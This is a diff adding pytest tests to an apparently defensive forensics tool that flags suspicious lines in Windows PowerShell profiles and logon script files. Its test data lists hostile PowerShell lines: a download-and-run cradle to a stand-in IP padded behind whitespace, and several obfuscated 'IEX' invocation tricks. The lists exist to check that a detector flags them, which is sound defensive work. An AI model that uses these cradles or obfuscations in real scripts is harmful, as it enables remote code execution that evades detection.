@@ -11,6 +11,7 @@ from forensics.artifacts import logon_scripts, powershell_profiles, screen_saver
 from forensics.artifacts.base import RegistryArtifact
 from forensics.formats.hive import Hive
 from forensics.formats.hive_deleted import layers, recover
+from forensics.formats.powershelltext import code
 from forensics.rules import load
 from testdata.writers.hive import REG_SZ, HiveWriter
 from tests.artifacts.autostarts import entries, scores
@@ -127,6 +128,14 @@ def test_a_copy_of_the_domains_policy_is_quiet() -> None:
     assert scores(facts) == {"Startup 0": 0}
 
 
+def test_scripts_beyond_the_most_are_a_problem() -> None:
+    text = "[Startup]\r\n" + "".join(f"{number}CmdLine=a{number}.cmd\r\n" for number in range(1500))
+    facts, problems = run_file(logon_scripts.FILES, f"{GROUP}/scripts.ini", text + "3Parameters=/q\r\n", MADE)
+    assert len(facts) == 1000
+    assert facts[3].fields["command_line"] == "a3.cmd /q"
+    assert [(problem.fault, problem.detail[:3]) for problem in problems] == [("partial", "500")]
+
+
 def test_a_file_without_scripts() -> None:
     assert run_file(logon_scripts.FILES, f"{GROUP}/scripts.ini", "\r\n".encode("utf-16"), MADE) == ([], [])
     assert len(run_file(logon_scripts.FILES, f"{GROUP}/scripts.ini", b"\x01\x02nonsense", MADE)[1]) == 1
@@ -155,6 +164,56 @@ def test_profiles() -> None:
     assert 0 < found_scores["profile.ps1"] <= 20
 
 
+HIDDEN = [
+    "$a=1;" + " " * 5000 + "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.7/a')",
+    "<# mine #> IEX $x", "<#\n#> IEX $x", "#\rIEX $x", "i`ex $x", "& ('i'+'ex') $x", "&(\"{1}{0}\" -f 'x','ie') $y",
+    "I`E`X $x", "@'\nit's <#\n'@\nIEX $x\n@'\n#>\n'@",
+    "$a = \u2019 <# \u2019; IEX $x; $b = \u2019 #> \u2019", '"$("x # ")"; IEX $x', "x " * 9000 + ";IEX $x",
+    "C:\\Users\\hanako\\odd.exe", '&"$env:APPDATA\\odd.exe" -k', "saps odd", ". ([scriptblock]::Create($x))",
+    "[Activator]::CreateInstance([type]::GetTypeFromCLSID($x))", "IEX `\n $x",
+]  # fmt: skip
+
+
+@pytest.mark.parametrize("line", HIDDEN)
+def test_what_a_profile_hides(line: str) -> None:
+    path = "C:/Users/hanako/Documents/PowerShell/profile.ps1"
+    (fact,), problems = run_file(powershell_profiles.ARTIFACT, path, HARMLESS + line.encode() + b"\n", MADE)
+    assert problems == []
+    assert "stand out" in str(fact.fields["reason"])
+    assert len(str(fact.fields["command_line"])) < 700
+    assert next(iter(scores([fact]).values())) > 40
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "# IEX $x", "<# IEX $x #>", "<#\nIEX $x\n#>\nSet-Alias a b", "Set-Alias a b # IEX $x",
+        "$a = 'C:\\Users\\a\\b.exe'",
+        "& (Get-Command git) status", "& \"$env:LOCALAPPDATA\\Programs\\tool\\tool.exe\" init",
+        "function g { & git $args }", "$env:PATH += ';C:\\Users\\a\\bin'",
+    ],
+)  # fmt: skip
+def test_what_profiles_usually_have_is_quiet(line: str) -> None:
+    path = "C:/Users/hanako/Documents/PowerShell/profile.ps1"
+    (fact,), _ = run_file(powershell_profiles.ARTIFACT, path, HARMLESS + line.encode() + b"\n", MADE)
+    assert "stand out" not in str(fact.fields["reason"])
+    assert next(iter(scores([fact]).values())) <= 20
+
+
+def test_files_that_a_profile_reads_in_are_named() -> None:
+    path = "C:/Users/hanako/Documents/PowerShell/profile.ps1"
+    (fact,), _ = run_file(powershell_profiles.ARTIFACT, path, b". C:\\Users\\hanako\\x.ps1\n", MADE)
+    assert fact.fields["command_line"] == ". C:\\Users\\hanako\\x.ps1"
+    assert "1 start other files (line 1)" in str(fact.fields["reason"])
+    assert 0 < scores([fact])["profile.ps1"] <= 40
+
+
+@pytest.mark.parametrize("piece", ['"`"', "'#", "<#", "iex `\n", "&(", "C:\\users\\", '# $("'])
+def test_hostile_profiles_end(piece: str) -> None:
+    lines = list(code(piece * (200_000 // len(piece))))
+    assert all(powershell_profiles.stands_out(line) in (True, False) for _, line in lines[:200])
+
+
 def test_an_empty_profile_is_context() -> None:
     (fact,), _ = run_file(powershell_profiles.ARTIFACT, "C:/Users/a/Documents/PowerShell/profile.ps1", b"# x\n", MADE)
     assert fact.context
@@ -164,6 +223,12 @@ def test_an_empty_profile_is_context() -> None:
 def test_lines_that_stand_out(item: dict[str, str]) -> None:
     assert powershell_profiles.stands_out(item["example"])
     assert not powershell_profiles.stands_out(item["counterexample"])
+
+
+@pytest.mark.parametrize("item", load("powershell_profiles")["starts"], ids=lambda item: item["pattern"][:20])
+def test_lines_that_start_others(item: dict[str, str]) -> None:
+    assert powershell_profiles.starts_others(item["example"])
+    assert not powershell_profiles.starts_others(item["counterexample"])
 
 
 def test_truncation() -> None:
